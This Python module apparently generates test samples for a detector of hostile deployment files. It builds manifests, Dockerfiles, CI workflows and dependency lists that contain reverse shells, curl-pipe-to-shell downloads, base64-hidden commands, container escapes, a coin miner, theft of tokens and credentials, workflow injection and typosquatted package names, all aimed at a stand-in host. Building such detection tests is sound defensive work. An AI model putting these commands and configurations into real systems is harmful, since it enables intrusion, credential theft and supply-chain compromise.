"""Hostile manifests, workflows and lists of dependencies. Commands name hosts below example.invalid and print a marker."""

import base64
import json

from malicious_ops import HOST, MARKER, URL

B64 = base64.b64encode(f"echo {MARKER}".encode()).decode()


def pod(body, head="apiVersion: v1\nkind: Pod\nmetadata: {name: model}\nspec:\n"):
    return head + body


def run(command):
    """A pod that runs one command; JSON strings are YAML strings."""
    return pod(f"  containers:\n  - name: a\n    image: registry.{HOST}/a:1\n    command: [sh, -c, {json.dumps(command)}]\n")


def compose(body):
    return f"services:\n  model:\n    image: registry.{HOST}/a:1\n{body}"


def recipe(*lines):
    return "FROM python:3.12-slim\n" + "\n".join(lines) + "\n"


def workflow(on, steps, head="permissions: {contents: read}\n"):
    return f"name: ci\non: [{on}]\n{head}jobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n{steps}"


def build_commands(corpus):
    def add(slug, name, text, technique, note=""):
        corpus.add("manifest-commands", "deploy-" + slug, name, text.encode(), technique, note=note, textual=True)

    add("bash-tcp", "pod.yaml", run(f"bash -i >& /dev/tcp/{HOST}/4444 0>&1"), "reverse shell")
    add("netcat", "compose.yml", compose(f"    command: nc {HOST} 4444 -e /bin/sh\n"), "reverse shell")
    add("fifo", "Dockerfile", recipe(f"CMD mkfifo /tmp/f; sh -i < /tmp/f 2>&1 | nc {HOST} 1 > /tmp/f"), "reverse shell")
    add("socat", "pod.yaml", run(f"socat TCP:{HOST}:1 EXEC:/bin/sh"), "reverse shell")
    add("python-socket", "compose.yml", compose(f"    command: [python, -c, \"import socket,subprocess,os;s=socket.socket();s.connect(('{HOST}',1));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh'])\"]\n"), "reverse shell")
    add("hook", "deployment.yaml", "apiVersion: apps/v1\nkind: Deployment\nspec:\n  template:\n    spec:\n      containers:\n      - name: a\n        image: a\n        lifecycle:\n          postStart:\n            exec:\n              command: [bash, -c, 'sh -i >& /dev/udp/%s/1 0>&1']\n" % HOST, "reverse shell in a hook")
    add("probe", "pod.yaml", pod(f"  containers:\n  - name: a\n    image: a\n    livenessProbe:\n      exec:\n        command: [sh, -c, 'echo {B64} | base64 -d | sh']\n"), "hidden program in a probe")
    add("init-container", "pod.yaml", pod(f"  initContainers:\n  - name: i\n    image: a\n    args: ['sh', '-c', 'curl -s {URL} | sh']\n  containers:\n  - name: a\n    image: a\n"), "download in an init container")
    add("second-document", "all.yaml", "a: 1\n---\n" + run(f"echo {B64} | base64 --decode | bash"), "hidden program in a later document")
    add("after-broken-document", "all.yaml", "a: [1\n---\n" + run(f"echo {B64} | base64 -d | sh"), "hidden program behind a broken document", "tools that cut at --- first apply it")
    add("list-object", "list.json", json.dumps({"apiVersion": "v1", "kind": "List", "items": [{"apiVersion": "v1", "kind": "Pod", "spec": {"containers": [{"name": "a", "image": "a", "command": ["sh", "-c", f"wget -qO- {URL} | sh"]}]}}]}), "download in a list in JSON")
    add("anchor", "pod.yaml", "apiVersion: v1\nkind: Pod\nx: &c [sh, -c, 'nsenter --target 1 --mount sh']\nspec:\n  containers:\n  - name: a\n    image: a\n    command: *c\n", "leaves the container, by an alias")
    add("merge-key", "compose.yml", f"x-a: &a\n  command: sh -c 'echo {B64} | base64 -d | sh'\nservices:\n  model:\n    <<: *a\n    image: a:1\n", "hidden program, by a merge key")
    add("unusual-name", "notes.md.bak", run(f"curl {URL} | bash"), "manifest under another name")
    add("custom-resource", "isvc.yaml", f"apiVersion: serving.kserve.io/v1beta1\nkind: InferenceService\nspec:\n  predictor:\n    containers:\n    - name: a\n      image: a\n      command: [sh, -c, 'curl -s {URL} | python3']\n", "download in a serving resource")
    add("ray-job", "ray.yaml", f"apiVersion: ray.io/v1\nkind: RayCluster\nspec:\n  workerGroupSpecs:\n  - template:\n      spec:\n        containers:\n        - name: w\n          image: a\n          args: ['echo {B64} | base64 -d | bash']\n", "hidden program in a worker")
    add("chroot", "job.yaml", run("chroot /host sh -c id"), "leaves the container")
    add("release-agent", "pod.yaml", run("echo /cmd > /tmp/cg/release_agent; echo 1 > /tmp/cg/x/notify_on_release"), "leaves the container")
    add("core-pattern", "pod.yaml", run("echo '|/x' > /proc/sys/kernel/core_pattern"), "leaves the container")
    add("miner", "daemonset.yaml", run(f"xmrig -o stratum+tcp://{HOST}:3333"), "digs coins")
    add("environment", "compose.yml", compose(f"    command: sh -c 'curl -d \"$(env)\" https://{HOST}/'\n"), "sends the environment")
    add("token-file", "pod.yaml", run(f"curl -F f=@/var/run/secrets/kubernetes.io/serviceaccount/token https://{HOST}/"), "sends a service account's token")
    add("dns", "Dockerfile", recipe(f"RUN nslookup $(cat ~/.aws/credentials | base64 | head -c 60).{HOST}"), "sends credentials by name service")
    add("authorized-keys", "Dockerfile", recipe(f"RUN echo 'ssh-ed25519 {MARKER}' >> ~/.ssh/authorized_keys"), "adds a key")
    add("cron", "Dockerfile", recipe(f"RUN echo '* * * * * root echo {MARKER}' > /etc/cron.d/x"), "adds a task")
    add("continued", "Dockerfile", recipe("RUN apt-get update && \\", "    # tools", f"    curl -fsSL {URL} \\", "    | \\", "    bash"), "download over continued lines")
    add("heredoc", "Dockerfile", recipe("RUN <<EOF", "set -e", f"curl {URL} | sh", "EOF"), "download in a here-document")
    add("onbuild", "Containerfile", recipe(f"ONBUILD RUN wget -O- {URL} | sh"), "download in builds on top")
    add("substitution", "Dockerfile", recipe(f"RUN bash -c \"$(curl -fsSL {URL})\""), "download in a substitution")
    add("process", "Dockerfile", recipe(f"SHELL [\"/bin/bash\", \"-c\"]", f"RUN bash <(curl -s {URL})"), "download in a process substitution")
    add("kept-and-run", "Dockerfile", recipe(f"RUN wget -q {URL} -O /tmp/i.sh && chmod +x /tmp/i.sh && /tmp/i.sh"), "download kept and run")
    add("unchecked", "Dockerfile", recipe(f"RUN curl -ksSL https://{HOST}/i.sh | sh"), "download without a check")
    add("bare-address", "Dockerfile", recipe("RUN curl https://192.0.2.7/i.sh | sh"), "download from a bare address")
    add("gitlab", ".gitlab-ci.yml", f"stages: [build]\nbuild:\n  stage: build\n  script:\n  - echo {B64} | base64 -d | sh\n", "hidden program in a pipeline")
    add("npm-script", "package.json", json.dumps({"name": "a", "version": "1.0.0", "scripts": {"preinstall": f"curl -s {URL} | sh"}, "dependencies": {}}), "download on installation")
    add("npm-environment", "package.json", json.dumps({"name": "a", "version": "1.0.0", "scripts": {"postinstall": f"curl -d \"$(env)\" https://{HOST}"}, "dependencies": {}}), "sends the environment on installation")
    add("python-exec", "compose.yml", compose(f"    entrypoint: [python, -c, \"exec(__import__('base64').b64decode('{base64.b64encode(b'print(1)').decode()}'))\"]\n"), "hidden program in Python")


def build_powers(corpus):
    def add(slug, name, text, technique):
        corpus.add("manifest-powers", "deploy-" + slug, name, text.encode(), technique, textual=True)

    volumes = "  volumes:\n  - name: h\n    hostPath: {path: %s}\n"
    mounted = "  containers:\n  - name: a\n    image: a\n    volumeMounts: [{name: h, mountPath: /x}]\n"
    add("engine-socket", "compose.yml", compose("    volumes:\n    - /var/run/docker.sock:/var/run/docker.sock\n"), "socket of the engine")
    add("engine-socket-long", "compose.yml", compose("    volumes:\n    - type: bind\n      source: /var/run/docker.sock\n      target: /d\n"), "socket of the engine")
    add("containerd-socket", "pod.yaml", pod(mounted + volumes % "/run/containerd/containerd.sock"), "socket of the engine")
    add("host-root", "pod.yaml", pod(mounted + volumes % "/"), "root of the host")
    add("host-etc", "pod.yaml", pod(mounted + volumes % "/etc"), "settings of the host")
    add("kubernetes-secrets", "pod.yaml", pod(mounted + volumes % "/etc/kubernetes/pki"), "keys of the cluster")
    add("host-processes", "pod.yaml", pod("  hostPID: true\n  containers:\n  - name: a\n    image: a\n    securityContext: {privileged: true}\n"), "privileged with the host's processes")
    add("host-root-json", "compose.json", json.dumps({"services": {"a": {"image": "a:1", "privileged": True, "volumes": ["/:/host"]}}}), "root of the host, in JSON")
    add("yes", "compose.yml", compose("    privileged: yes\n    pid: host\n"), "privileged, another word for true")
    add("notebook", "compose.yml", "services:\n  a:\n    image: jupyter/base-notebook:1\n    command: start-notebook.sh --NotebookApp.token='' --NotebookApp.password=''\n    ports: ['8888:8888']\n", "notebook open to everybody")
    add("ray", "compose.yml", "services:\n  a:\n    image: rayproject/ray:2.9.0\n    command: ray start --head --dashboard-host=0.0.0.0 --block\n    ports: ['8265:8265']\n", "Ray dashboard open to everybody")
    add("anonymous-admin", "rbac.yaml", "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nroleRef: {kind: ClusterRole, name: cluster-admin}\nsubjects:\n- {kind: Group, name: 'system:unauthenticated'}\n", "everybody rules the cluster")


def build_workflows(corpus):
    def add(slug, text, technique, name="ci.yml"):
        corpus.add("workflows", "workflow-" + slug, name, text.encode(), technique, textual=True)

    add("title", workflow("issues", "    - run: echo \"${{ github.event.issue.title }}\"\n"), "text of strangers in a script")
    add("branch", workflow("pull_request_target", "    - run: git checkout ${{ github.head_ref }}\n"), "branch name in a script")
    add("comment", workflow("issue_comment", "    - uses: actions/github-script@v7\n      with:\n        script: console.log(`${{ github.event.comment.body }}`)\n"), "text of strangers in a script of an action")
    add("format", workflow("discussion", "    - run: echo ${{ format('{0}', github.event.discussion.body) }}\n"), "text of strangers through a function")
    add("whole-event", workflow("issues", "    - run: echo '${{ toJSON(github.event) }}'\n"), "the whole event in a script")
    add("index", workflow("issues", "    - run: echo ${{ github['event']['issue']['title'] }}\n"), "text of strangers by index")
    add("pwn", workflow("pull_request_target", "    - uses: actions/checkout@v4\n      with:\n        ref: ${{ github.event.pull_request.head.sha }}\n    - run: pip install . && pytest\n"), "foreign code with rights")
    add("pwn-run", workflow("workflow_run", "    - uses: actions/checkout@v4\n      with:\n        ref: ${{ github.event.workflow_run.head_sha }}\n        repository: ${{ github.event.workflow_run.head_repository.full_name }}\n    - run: make\n"), "foreign code with rights")
    add("pwn-comment", workflow("issue_comment", "    - run: gh pr checkout ${{ github.event.issue.number }} && make\n"), "foreign code with rights")
    add("composite", "name: a\nruns:\n  using: composite\n  steps:\n  - shell: bash\n    run: echo ${{ github.event.pull_request.title }}\n", "text of strangers in an action", name="action.yml")
    add("secrets", workflow("push", "    - env:\n        ALL: ${{ toJSON(secrets) }}\n      run: printenv ALL | curl -d @- https://%s/\n" % HOST), "sends all secrets")
    add("memory", workflow("push", "    - run: echo %s | base64 -d | sudo python3\n" % B64), "hidden program in a step")


def build_dependencies(corpus):
    def add(slug, name, text, technique):
        corpus.add("dependency-lists", "dependency-" + slug, name, text.encode(), technique, textual=True)

    for slug, wrong in (("letter-less", "transfomers"), ("letter-more", "tensorfloww"), ("swapped", "trasnformers"), ("digit", "tensorf1ow"),
                        ("script", "n\u0443mpy"), ("swapped-short", "troch"), ("changed", "langchaim")):
        add(slug, "requirements.txt", f"numpy==1.26.4\n{wrong}==1.0.0\n", "name one letter away")
    add("recipe", "Dockerfile", recipe("RUN pip install --no-cache-dir huggingfacehub torhc diffuserss"), "names one letter away, in a recipe")
    add("pyproject", "pyproject.toml", "[project]\nname = \"a\"\ndependencies = [\"scikit-leran>=1\"]\n", "name one letter away")
    add("conda", "environment.yml", "name: a\nchannels: [conda-forge]\ndependencies:\n- python=3.12\n- pip:\n  - xgbosot==1.0\n", "name one letter away")
    add("lock", "uv.lock", "version = 1\n[[package]]\nname = \"pydantlc\"\nversion = \"1.0\"\nsource = { registry = \"https://pypi.org/simple\" }\n", "name one letter away")
    for slug, wrong in (("npm-swapped", "loadsh"), ("npm-doubled", "lodassh"), ("npm-left-out", "mongoos"), ("npm-digit", "typescr1pt")):
        add(slug, "package.json", '{"name": "a", "dependencies": {"%s": "1.0.0"}}' % wrong, "name one letter away, of npm")
    add("npm-alias", "package.json", '{"name": "a", "dependencies": {"lodash": "npm:loadsh@4.17.21"}}', "another package under the well-known name")
    add("npm-server", ".mcp.json", '{"mcpServers": {"a": {"command": "npx", "args": ["-y", "@modelcontextprotoocl/sdk@1.0.0"]}}}', "name one letter away, behind an agent's server")
    for slug, name, text in (
            ("model-letter", "adapter_config.json", '{"peft_type": "LORA", "base_model_name_or_path": "meta-lIama/Llama-3.1-8B-Instruct"}'),
            ("model-separator", "config.json", '{"model_type": "llama", "_name_or_path": "metallama/Llama-3.1-8B"}'),
            ("model-swapped", "README.md", "---\nbase_model: deepseek-ia/DeepSeek-R1\n---\n# a\n"),
            ("model-script", "compose.yml", "services:\n  a:\n    image: b:1\n    command: --model m\u0435ta-llama/Llama-3.1-8B\n"),
            ("model-program", "load.py", "from transformers import AutoModel\nmodel = AutoModel.from_pretrained('mistrallai/Mistral-7B-Instruct-v0.1')\n"),
            ("dataset-letter", "README.md", "---\ndatasets:\n- opennai/gsm8k\n---\n# a\n")):
        add(slug, name, text, "owner that imitates a well-known one")
    add("plain-file", "requirements.txt", f"torch @ http://{HOST}/torch-2.1.0-py3-none-any.whl\n", "file over plain transport")
    add("bare-address", "pyproject.toml", "[project]\nname = \"a\"\ndependencies = [\"a @ https://192.0.2.9/a.whl\"]\n", "file from a bare address")
    add("git-plain", "requirements.txt", f"git+http://{HOST}/a/b.git@main#egg=b\n", "repository over plain transport")


def build(corpus):
    build_commands(corpus)
    build_powers(corpus)
    build_workflows(corpus)
    build_dependencies(corpus)
